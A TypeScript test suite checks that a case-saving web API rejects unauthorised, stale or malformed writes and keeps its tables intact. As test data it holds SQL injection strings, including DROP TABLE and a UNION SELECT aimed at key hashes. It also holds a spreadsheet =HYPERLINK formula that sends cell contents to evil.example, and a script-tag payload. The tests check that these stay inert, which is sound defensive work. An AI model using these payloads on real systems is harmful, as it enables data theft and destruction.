// No unauthorised write or read of a saved case: every way in without the right key, at the wrong version, to a
// deleted or never-made case, or with SQL in the id or title, answers its 4xx and leaves the tables as they were.
import { env } from 'cloudflare:workers';
import { describe, expect, it } from 'vitest';
import { workedExample } from '../../src/schemas/examples.ts';
import { call, expectProblem, parseDelimited, postJson } from './helpers.ts';

type Receipt = { id: string; version: number; editKey: string };

async function create(title = 'Acme', scenario: object = workedExample, headers: Record<string, string> = {}): Promise<Receipt> {
  const res = await postJson('/v1/cases', { title, ...scenario }, headers);
  expect(res.status).toBe(201);
  return (await res.json()) as Receipt;
}

function write(method: 'PUT' | 'DELETE' | 'POST', path: string, key?: string | null, ifMatch?: string, body?: string | object) {
  const headers: Record<string, string> = {};
  if (key !== undefined && key !== null) headers.authorization = key.includes(' ') ? key : `Bearer ${key}`;
  if (ifMatch !== undefined) headers['if-match'] = ifMatch;
  if (body !== undefined) headers['content-type'] = 'application/json';
  return call(path, { method, headers, body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body) });
}

const put = (id: string, key?: string | null, ifMatch?: string, body: string | object = { title: 'changed', ...workedExample, customers: 7 }) =>
  write('PUT', `/v1/cases/${id}`, key, ifMatch, body);
const del = (id: string, key?: string | null, ifMatch?: string) => write('DELETE', `/v1/cases/${id}`, key, ifMatch);
const rotate = (id: string, key?: string | null) => write('POST', `/v1/cases/${id}/edit-key`, key);

/** Every row of every table the cases live in, in a fixed order. */
async function snapshot() {
  const rows = async (sql: string) => (await env.DB.prepare(sql).all()).results;
  return {
    cases: await rows('SELECT * FROM cases ORDER BY id'),
    versions: await rows('SELECT * FROM case_versions ORDER BY case_id, version'),
    creations: await rows('SELECT * FROM case_creations ORDER BY idempotency_key_hash'),
    schema: await rows("SELECT type, name, sql FROM sqlite_master WHERE name NOT LIKE 'sqlite_%' ORDER BY name"),
  };
}

/** Runs `attempt` and asserts the tables are exactly as they were before it. */
async function unchanged<T>(attempt: () => Promise<T>): Promise<T> {
  const before = await snapshot();
  const result = await attempt();
  expect(await snapshot()).toStrictEqual(before);
  return result;
}

const etagOf = async (path: string) => {
  const res = await call(path);
  expect(res.status, path).toBe(200);
  return res.headers.get('etag')!;
};

const randomId = () => {
  const bytes = crypto.getRandomValues(new Uint8Array(16));
  return btoa(String.fromCharCode(...bytes))
    .replace(/\+/g, '-')
    .replace(/\//g, '_')
    .replace(/=+$/, '');
};
const randomKey = () => {
  const bytes = crypto.getRandomValues(new Uint8Array(32));
  return btoa(String.fromCharCode(...bytes))
    .replace(/\+/g, '-')
    .replace(/\//g, '_')
    .replace(/=+$/, '');
};

const PUT_OP: [string, string] = ['PUT', '/v1/cases/{id}'];
const DELETE_OP: [string, string] = ['DELETE', '/v1/cases/{id}'];
const ROTATE_OP: [string, string] = ['POST', '/v1/cases/{id}/edit-key'];

describe('saved cases: the edit key', () => {
  it('a write without a key: 401 with WWW-Authenticate, on every write, and nothing changes', async () => {
    const c = await create();
    await unchanged(async () => {
      for (const [res, op] of [
        [await put(c.id, undefined, '*'), PUT_OP],
        [await del(c.id), DELETE_OP],
        [await rotate(c.id), ROTATE_OP],
      ] as const) {
        expect(res.headers.get('www-authenticate')).toMatch(/^Bearer realm="[^"]+"$/);
        expect(res.headers.get('cache-control')).toBe('no-store');
        expect((await expectProblem(res, 401, [...op])).type).toBe('/problems/unauthorized');
      }
    });
  });

  it('a malformed Authorization header: 401, whatever the key inside it', async () => {
    const c = await create();
    await unchanged(async () => {
      for (const header of [
        `Basic ${btoa(`user:${c.editKey}`)}`,
        `Token ${c.editKey}`,
        'Bearer',
        'Bearer ',
        `Bearer ${c.editKey} ${c.editKey}`,
        `${c.editKey}`,
        `Bearer\t${c.editKey}`,
        `Bearer: ${c.editKey}`.replace(' ', '  '),
      ]) {
        const res = await call(`/v1/cases/${c.id}`, {
          method: 'PUT',
          headers: { authorization: header, 'if-match': '*', 'content-type': 'application/json' },
          body: JSON.stringify(workedExample),
        });
        expect(res.status, header).toBe(401);
        expect(res.headers.get('www-authenticate'), header).toMatch(/^Bearer /);
        await expectProblem(res, 401, PUT_OP);
      }
    });
  });

  it('a wrong key, another case’s key, or one that looks like SQL: 403 on every write, and nothing changes', async () => {
    const c = await create();
    const other = await create('Other');
    await unchanged(async () => {
      for (const key of [
        randomKey(),
        other.editKey,
        "'OR'1'='1'--",
        `${c.editKey.slice(0, -1)}x`,
        c.editKey.slice(0, -1),
        `${c.editKey}a`,
        '0'.repeat(64),
      ]) {
        expect((await expectProblem(await put(c.id, key, '*'), 403, PUT_OP)).type, key).toBe('/problems/forbidden');
        await expectProblem(await del(c.id, key), 403, DELETE_OP);
        await expectProblem(await rotate(c.id, key), 403, ROTATE_OP);
      }
    });
    // Each key still opens its own case.
    expect((await put(other.id, other.editKey, '*')).status).toBe(200);
  });

  it('a key rotated away: 403 at once, for every write; the new key works', async () => {
    const c = await create();
    const rotated = await rotate(c.id, c.editKey);
    expect(rotated.status).toBe(200);
    expect(rotated.headers.get('cache-control')).toBe('no-store');
    const { editKey } = (await rotated.json()) as { editKey: string };
    await unchanged(async () => {
      await expectProblem(await put(c.id, c.editKey, '*'), 403, PUT_OP);
      await expectProblem(await del(c.id, c.editKey), 403, DELETE_OP);
      await expectProblem(await rotate(c.id, c.editKey), 403, ROTATE_OP);
    });
    expect((await put(c.id, editKey, '*')).status).toBe(200);
  });

  it('a deleted case: 404 for its old key and for every read, each byte for byte the answer for a case never made', async () => {
    const c = await create();
    const v1 = await etagOf(`/v1/cases/${c.id}`);
    const gone = await del(c.id, c.editKey, v1);
    expect(gone.status).toBe(204);
    expect(gone.headers.get('cache-control')).toBe('no-store');
    const never = randomId();
    await unchanged(async () => {
      for (const [path, op] of [
        ['', 'GET'],
        ['/versions', 'GET'],
        ['/versions/1', 'GET'],
        ['?format=csv', 'GET'],
        ['?field=case.title', 'GET'],
        ['', 'PUT'],
        ['', 'DELETE'],
        ['/edit-key', 'POST'],
      ] as const) {
        const ask = (id: string) =>
          op === 'GET'
            ? call(`/v1/cases/${id}${path}`)
            : write(op, `/v1/cases/${id}${path}`, c.editKey, op === 'PUT' ? '*' : undefined, op === 'PUT' ? workedExample : undefined);
        const [deleted, unknown] = [await ask(c.id), await ask(never)];
        expect([deleted.status, unknown.status], `${op} ${path}`).toEqual([404, 404]);
        expect([...deleted.headers].filter(([k]) => k !== 'date')).toEqual([...unknown.headers].filter(([k]) => k !== 'date'));
        const [a, b] = [await deleted.text(), await unknown.text()];
        expect(a, `${op} ${path}`).toBe(b);
        if (deleted.headers.get('content-type') === 'application/problem+json') expect(JSON.parse(a).type).toBe('/problems/not-found');
        else expect(a).toContain('no saved case');
        expect(a).not.toContain(c.id);
      }
    });
  });
});

describe('saved cases: the order of checks, and the precondition', () => {
  it('the key first (401, 403), then If-Match (428, 412), then the body (413, 415, 400); nothing changes', async () => {
    const c = await create();
    const v1 = await etagOf(`/v1/cases/${c.id}`);
    expect((await put(c.id, c.editKey, v1)).status).toBe(200);
    const big = JSON.stringify({ title: 'x', ...workedExample, padding: 'x'.repeat(300 * 1024) });
    await unchanged(async () => {
      // No key: 401, whatever else is wrong.
      await expectProblem(await put(c.id, undefined), 401, PUT_OP);
      await expectProblem(await put(c.id, undefined, v1, big), 401, PUT_OP);
      await expectProblem(await put(c.id, undefined, undefined, '{not json'), 401, PUT_OP);
      await expectProblem(await del(c.id, undefined, v1), 401, DELETE_OP);
      // A wrong key: 403, whatever else is wrong.
      await expectProblem(await put(c.id, randomKey()), 403, PUT_OP);
      await expectProblem(await put(c.id, randomKey(), v1, big), 403, PUT_OP);
      await expectProblem(await del(c.id, randomKey(), v1), 403, DELETE_OP);
      // The right key: then the precondition, before the body is read.
      expect((await expectProblem(await put(c.id, c.editKey), 428, PUT_OP)).type).toBe('/problems/precondition-required');
      await expectProblem(await put(c.id, c.editKey, undefined, big), 428, PUT_OP);
      const stale = await expectProblem(await put(c.id, c.editKey, v1), 412, PUT_OP);
      expect(stale.type).toBe('/problems/precondition-failed');
      expect(stale.detail).toContain('version 2');
      await expectProblem(await put(c.id, c.editKey, v1, big), 412, PUT_OP);
      await expectProblem(await put(c.id, c.editKey, '"v2-not-a-tag-of-ours', big), 412, PUT_OP);
      await expectProblem(await put(c.id, c.editKey, '"model-2-0123456789abcdef", W/"v", ""', big), 412, PUT_OP);
      await expectProblem(await del(c.id, c.editKey, v1), 412, DELETE_OP);
      // Key and precondition right: the body.
      const current = await etagOf(`/v1/cases/${c.id}`);
      const tooLarge = await expectProblem(await put(c.id, c.editKey, current, big), 413, PUT_OP);
      expect(tooLarge.type).toBe('/problems/payload-too-large');
      await expectProblem(await put(c.id, c.editKey, current, '{not json'), 400, PUT_OP);
      await expectProblem(await put(c.id, c.editKey, current, { ...workedExample, customers: -1 }), 422, PUT_OP);
    });
    expect((await put(c.id, c.editKey, await etagOf(`/v1/cases/${c.id}`))).status).toBe(200);
  });

  it('a body over 256 KiB: 413 for a create and an edit, announced or streamed, and nothing saved', async () => {
    const c = await create();
    const big = JSON.stringify({ title: 'x', ...workedExample, padding: 'x'.repeat(256 * 1024) });
    await unchanged(async () => {
      await expectProblem(await postJson('/v1/cases', big), 413, ['POST', '/v1/cases']);
      await expectProblem(await put(c.id, c.editKey, '*', big), 413, PUT_OP);
      const streamed = (path: string, method: string, headers: Record<string, string> = {}) => {
        const bytes = new TextEncoder().encode(big);
        const body = new ReadableStream({
          start(controller) {
            for (let i = 0; i < bytes.length; i += 16 * 1024) controller.enqueue(bytes.slice(i, i + 16 * 1024));
            controller.close();
          },
        });
        return call(path, { method, headers: { 'content-type': 'application/json', ...headers }, body });
      };
      const created = await streamed('/v1/cases', 'POST');
      expect(created.headers.get('content-length')).not.toBe(String(big.length));
      await expectProblem(created, 413, ['POST', '/v1/cases']);
      await expectProblem(await streamed(`/v1/cases/${c.id}`, 'PUT', { authorization: `Bearer ${c.editKey}`, 'if-match': '*' }), 413, PUT_OP);
    });
  });

  it('any ETag given for the current version is a good If-Match: JSON, CSV, TSV, field, /versions, /versions/{n}, weak, in a list, `*`', async () => {
    const c = await create();
    const sources = [
      () => `/v1/cases/${c.id}`,
      () => `/v1/cases/${c.id}?format=csv`,
      () => `/v1/cases/${c.id}?format=tsv&table=investments`,
      () => `/v1/cases/${c.id}?field=investments.fix-billing.npv`,
      () => `/v1/cases/${c.id}/versions`,
      (v: number) => `/v1/cases/${c.id}/versions/${v}`,
    ];
    let version = 1;
    for (const source of sources) {
      const tag = await etagOf(source(version));
      expect(tag, source(version)).toMatch(new RegExp(`^"${c.id}-v${version}-model-`));
      const res = await put(c.id, c.editKey, tag);
      expect(res.status, source(version)).toBe(200);
      expect(res.headers.get('cache-control')).toBe('no-store');
      version++;
      // The same tag once the case has moved on: 412.
      await unchanged(async () => expectProblem(await put(c.id, c.editKey, tag), 412, PUT_OP));
    }
    const tag = await etagOf(`/v1/cases/${c.id}`);
    expect((await put(c.id, c.editKey, `W/${tag}`)).status).toBe(200);
    const old = await etagOf(`/v1/cases/${c.id}/versions/1`);
    expect((await put(c.id, c.editKey, `${old}, ${await etagOf(`/v1/cases/${c.id}?format=csv`)}`)).status).toBe(200);
    expect((await put(c.id, c.editKey, '*')).status).toBe(200);
    // An ETag of an older version, read from /versions/{n}, names that version: 412.
    await unchanged(async () => expectProblem(await put(c.id, c.editKey, old), 412, PUT_OP));
    expect((await call(`/v1/cases/${c.id}`)).headers.get('etag')).toMatch(new RegExp(`^"${c.id}-v10-`));
  });

  it('a version older than the last 100: 410; the last 100 are kept and readable, and nothing older is stored', async () => {
    const c = await create('v1');
    for (let v = 2; v <= 102; v++) {
      const res = await put(c.id, c.editKey, '*', { title: `v${v}`, ...workedExample, customers: v });
      expect(res.status).toBe(200);
    }
    const stored = await env.DB.prepare('SELECT MIN(version) AS oldest, MAX(version) AS newest, COUNT(*) AS n FROM case_versions WHERE case_id = ?1')
      .bind(c.id)
      .first();
    expect(stored).toEqual({ oldest: 3, newest: 102, n: 100 });
    await unchanged(async () => {
      for (const v of [1, 2]) {
        const res = await call(`/v1/cases/${c.id}/versions/${v}`);
        expect(res.headers.get('cache-control')).toBe('no-store');
        const problem = await expectProblem(res, 410, ['GET', '/v1/cases/{id}/versions/{version}']);
        expect(problem.type).toBe('/problems/gone');
        expect(problem.detail).toContain('version 3');
      }
      for (const v of [3, 50, 102]) {
        const res = await call(`/v1/cases/${c.id}/versions/${v}?field=case.title`);
        expect(res.status).toBe(200);
        expect(await res.text()).toBe(`v${v}`);
      }
      await expectProblem(await call(`/v1/cases/${c.id}/versions/103`), 404, ['GET', '/v1/cases/{id}/versions/{version}']);
      const list = (await (await call(`/v1/cases/${c.id}/versions`)).json()) as { versions: { version: number }[] };
      expect(list.versions.map((v) => v.version)).toEqual(Array.from({ length: 100 }, (_, i) => i + 3));
    });
  }, 60_000);
  it('an edit whose key is rotated away while its body arrives: 403, and no kept version is lost', async () => {
    const c = await create('v1');
    for (let v = 2; v <= 100; v++) expect((await put(c.id, c.editKey, '*', { title: `v${v}`, ...workedExample })).status).toBe(200);
    // The key and If-Match are checked when the headers arrive; the body is held back until the key is rotated.
    let release!: () => void;
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    const body = new TextEncoder().encode(JSON.stringify({ title: 'late', ...workedExample }));
    const stream = new ReadableStream({
      async pull(controller) {
        await held;
        controller.enqueue(body);
        controller.close();
      },
    });
    const late = call(`/v1/cases/${c.id}`, {
      method: 'PUT',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${c.editKey}`, 'if-match': '*' },
      body: stream,
    });
    await new Promise((resolve) => setTimeout(resolve, 50));
    const rotated = await rotate(c.id, c.editKey);
    expect(rotated.status).toBe(200);
    await unchanged(async () => {
      release();
      await expectProblem(await late, 403, PUT_OP);
    });
    expect((await call(`/v1/cases/${c.id}/versions/1?field=case.title`)).status).toBe(200);
  }, 60_000);
});

describe('saved cases: SQL-looking and malformed ids and titles', () => {
  const SQL_IDS = ["' OR 1=1 --", '1;DROP TABLE cases', "x' UNION SELECT edit_key_hash FROM cases --", '%', '*', "aaaaaaaaaaaaaaaaaaaaa'"];

  it('SQL-looking, over-long, short and unknown ids: 404 for every read and write, the same bytes as an unknown id, and nothing changes', async () => {
    const c = await create();
    const unknown = randomId();
    const PATHS = ['', '/versions', '/versions/1', '?format=csv'];
    const reference = new Map<string, string>();
    for (const path of PATHS) reference.set(path, await (await call(`/v1/cases/${unknown}${path}`)).text());
    const referenceBody = reference.get('')!;
    const ids = [
      ...SQL_IDS.map(encodeURIComponent),
      'a'.repeat(23),
      'a'.repeat(21),
      'a'.repeat(5000),
      `${c.id}a`,
      c.id.slice(0, -1),
      `${c.id}%00`,
      c.id.toLowerCase() === c.id ? c.id.toUpperCase() : c.id.toLowerCase(),
      randomId(),
    ];
    await unchanged(async () => {
      for (const id of ids) {
        for (const path of PATHS) {
          const res = await call(`/v1/cases/${id}${path}`);
          expect(res.status, `${id}${path}`).toBe(404);
          expect(res.headers.get('cache-control')).toBe('no-store');
          expect(await res.text(), `${id}${path}`).toBe(reference.get(path));
        }
        // A key that opens a case, sent to an id that names none: still 404, and the case it opens is untouched.
        for (const res of [await put(id, c.editKey, '*'), await del(id, c.editKey), await rotate(id, c.editKey)]) {
          expect(res.status, id).toBe(404);
          expect(await res.text(), id).toBe(referenceBody);
        }
        // Without a key, the key is asked for first.
        expect((await put(id, undefined, '*')).status).toBe(401);
      }
    });
    for (const table of ['cases', 'case_versions', 'case_creations']) {
      expect(await env.DB.prepare(`SELECT COUNT(*) AS n FROM ${table}`).first('n')).toBeGreaterThanOrEqual(table === 'case_creations' ? 0 : 2);
    }
  });

  it('SQL-looking and formula titles (and Idempotency-Keys) are stored verbatim, harm nothing, and are inert in CSV', async () => {
    const titles = [
      "'); DROP TABLE cases; --",
      "Robert'); DELETE FROM case_versions WHERE ('1'='1",
      '1; UPDATE cases SET version = 99',
      "' OR 1=1 --",
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+SUM(1+1)',
      '-2+3',
      '@SUM(A1:A9)',
      'a,=1+1;"b";@x',
      '%s%n\\x00 <script>alert(1)</script>',
    ];
    const before = await snapshot();
    for (const title of titles) {
      const c = await create(title, workedExample, { 'idempotency-key': `${title.replace(/[^\x21-\x7e]/g, '_')}-${randomId()}` });
      const row = await env.DB.prepare('SELECT title FROM case_versions WHERE case_id = ?1').bind(c.id).first('title');
      expect(row).toBe(title);
      const read = (await (await call(`/v1/cases/${c.id}`)).json()) as { case: { title: string } };
      expect(read.case.title).toBe(title);
      // In a cell, no spreadsheet runs it: a leading apostrophe where it would start a formula.
      const csv = await call(`/v1/cases/${c.id}/versions?format=csv`);
      expect(csv.status).toBe(200);
      const rows = parseDelimited(await csv.text());
      const cell = rows[1]![rows[0]!.indexOf('title')]!;
      // The title, with an apostrophe before a formula character that starts it or follows a `,` or `;` (OWASP).
      expect(cell, title).toBe(title.replace(/^(?=[=+\-@])/, "'").replace(/([,;]"*)(?=[=+\-@])/g, "$1'"));
      for (const r of rows) for (const field of r) expect(field, title).not.toMatch(/^[=+\-@\t\r\n]|[,;]"*[=+\-@]/);
      const field = await (await call(`/v1/cases/${c.id}?field=case.title`)).text();
      expect(field, title).not.toMatch(/^[=+\-@\t\r\n]/);
      // An edit with such a title too.
      expect((await put(c.id, c.editKey, '*', { title, ...workedExample, customers: 3 })).status).toBe(200);
      expect(await env.DB.prepare('SELECT title FROM case_versions WHERE case_id = ?1 AND version = 2').bind(c.id).first('title')).toBe(title);
    }
    // A title that would break a line or a cell is refused, and nothing is saved.
    await unchanged(async () => {
      for (const title of ['\t=1+1', 'a\r\n=2', 'nul\u0000', '\u2028=1', ' ', '']) {
        const res = await postJson('/v1/cases', { title, ...workedExample });
        expect(res.status, JSON.stringify(title)).toBe(422);
      }
    });
    const after = await snapshot();
    // Everything there before is still there, unchanged, and the schema is whole.
    expect(after.schema).toStrictEqual(before.schema);
    for (const row of before.cases) expect(after.cases).toContainEqual(row);
    for (const row of before.versions) expect(after.versions).toContainEqual(row);
    expect(after.cases).toHaveLength(before.cases.length + titles.length);
    expect(after.versions).toHaveLength(before.versions.length + 2 * titles.length);
    expect(after.creations).toHaveLength(before.creations.length + titles.length);
  });
});

describe('saved cases: secrets, caching and CORS', () => {
  it('edit keys appear in no GET answer and nowhere in the database in clear text', async () => {
    const idempotencyKey = crypto.randomUUID();
    const c = await create('Secret', workedExample, { 'idempotency-key': idempotencyKey });
    const replay = await postJson('/v1/cases', { title: 'Secret', ...workedExample }, { 'idempotency-key': idempotencyKey });
    expect(((await replay.json()) as Receipt).editKey).toBe(c.editKey);
    const edited = await put(c.id, c.editKey, '*');
    expect(await edited.text()).not.toContain(c.editKey);
    const rotated = (await (await rotate(c.id, c.editKey)).json()) as { editKey: string };
    const keys = [c.editKey, rotated.editKey];
    const paths = [
      '',
      '?format=csv',
      '?format=tsv&table=investments',
      '?field=case.title',
      '?field=case.id',
      '/versions',
      '/versions?format=csv',
      '/versions/1',
      '/versions/2?format=csv&table=assumptions',
    ];
    for (const path of paths) {
      const res = await call(`/v1/cases/${c.id}${path}`);
      expect(res.status, path).toBe(200);
      const text = `${JSON.stringify([...res.headers])}${await res.text()}`;
      for (const key of keys) expect(text, path).not.toContain(key);
    }
    const tables = (
      await env.DB.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '_cf_%'").all<{
        name: string;
      }>()
    ).results;
    expect(tables.map((t) => t.name)).toEqual(expect.arrayContaining(['cases', 'case_versions', 'case_creations']));
    for (const { name } of tables) {
      const dump = JSON.stringify((await env.DB.prepare(`SELECT * FROM "${name.replace(/"/g, '""')}"`).all()).results);
      for (const key of keys) expect(dump, name).not.toContain(key);
    }
  });

  it('Cache-Control: `private, no-cache` for a case’s answers (and its 304), `no-store` for writes and errors', async () => {
    const c = await create();
    for (const path of ['', '?format=csv', '?field=case.version', '/versions', '/versions/1', '/versions?format=csv']) {
      const res = await call(`/v1/cases/${c.id}${path}`);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('cache-control'), path).toBe('private, no-cache');
      const again = await call(`/v1/cases/${c.id}${path}`, { headers: { 'if-none-match': res.headers.get('etag')! } });
      expect(again.status, path).toBe(304);
      expect(again.headers.get('cache-control'), path).toBe('private, no-cache');
    }
    const answers: [string, Response][] = [
      ['create', await postJson('/v1/cases', workedExample)],
      ['create 422', await postJson('/v1/cases', { ...workedExample, customers: -1 })],
      ['create 413', await postJson('/v1/cases', { ...workedExample, padding: 'x'.repeat(257 * 1024) })],
      ['get 404', await call(`/v1/cases/${randomId()}`)],
      ['get 404 version', await call(`/v1/cases/${c.id}/versions/9`)],
      ['get 400', await call(`/v1/cases/${c.id}?field=no.such.field`)],
      ['put 401', await put(c.id)],
      ['put 403', await put(c.id, randomKey(), '*')],
      ['put 428', await put(c.id, c.editKey)],
      ['put 412', await put(c.id, c.editKey, '"v9-model-2-x"')],
      ['put', await put(c.id, c.editKey, '*')],
      ['rotate', await rotate(c.id, c.editKey)],
    ];
    const { editKey } = (await answers.at(-1)![1].clone().json()) as { editKey: string };
    answers.push(['delete', await del(c.id, editKey)]);
    for (const [what, res] of answers) {
      expect(res.headers.get('cache-control'), `${what} ${res.status}`).toBe('no-store');
    }
  });

  it('CORS: a preflight for a case allows PUT, DELETE, If-Match and Authorization; answers expose ETag and Location', async () => {
    const c = await create();
    const preflight = await call(`/v1/cases/${c.id}`, {
      method: 'OPTIONS',
      headers: {
        origin: 'https://sheets.example',
        'access-control-request-method': 'PUT',
        'access-control-request-headers': 'authorization, if-match, content-type',
      },
    });
    expect(preflight.status).toBeLessThan(300);
    const list = (name: string) => (preflight.headers.get(name) ?? '').split(',').map((s) => s.trim().toLowerCase());
    expect(list('access-control-allow-methods')).toEqual(expect.arrayContaining(['get', 'put', 'delete']));
    expect(list('access-control-allow-headers')).toEqual(expect.arrayContaining(['if-match', 'authorization', 'content-type', 'if-none-match']));
    expect(preflight.headers.get('access-control-allow-origin')).toBe('*');
    expect(preflight.headers.get('access-control-allow-credentials')).toBeNull();
    const created = await postJson('/v1/cases', workedExample, { origin: 'https://sheets.example' });
    const read = await call(`/v1/cases/${c.id}`, { headers: { origin: 'https://sheets.example' } });
    for (const res of [created, read]) {
      const exposed = (res.headers.get('access-control-expose-headers') ?? '').split(',').map((s) => s.trim().toLowerCase());
      expect(exposed).toEqual(expect.arrayContaining(['etag', 'location']));
      expect(res.headers.get('access-control-allow-origin')).toBe('*');
    }
    const preflightCreate = await call('/v1/cases', {
      method: 'OPTIONS',
      headers: { origin: 'https://sheets.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'idempotency-key' },
    });
    expect((preflightCreate.headers.get('access-control-allow-headers') ?? '').toLowerCase()).toContain('idempotency-key');
  });
});
